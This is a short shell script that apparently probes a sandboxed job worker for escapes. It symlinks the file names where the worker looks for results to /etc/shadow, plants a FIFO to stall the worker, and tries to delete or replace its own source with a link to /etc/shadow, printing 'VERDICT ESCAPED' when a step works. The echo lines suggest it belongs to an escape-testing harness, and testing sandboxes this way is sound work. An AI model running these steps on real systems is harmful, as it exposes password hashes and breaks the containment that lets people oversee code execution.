set +e
# Make the worker read a file of the host through the places where it might look for a result.
for name in result.json result.out args.json /job/in/result.json /job/result.json; do ln -sfn /etc/shadow $name 2>/dev/null; done
mkfifo result.fifo && ln -sfn /job/work/result.fifo result.json
rm -f /job/in/main.sh 2>/dev/null && echo "VERDICT ESCAPED removed its own source"
ln -sfn /etc/shadow /job/in/main.sh 2>/dev/null && echo "VERDICT ESCAPED replaced its own source"
echo done
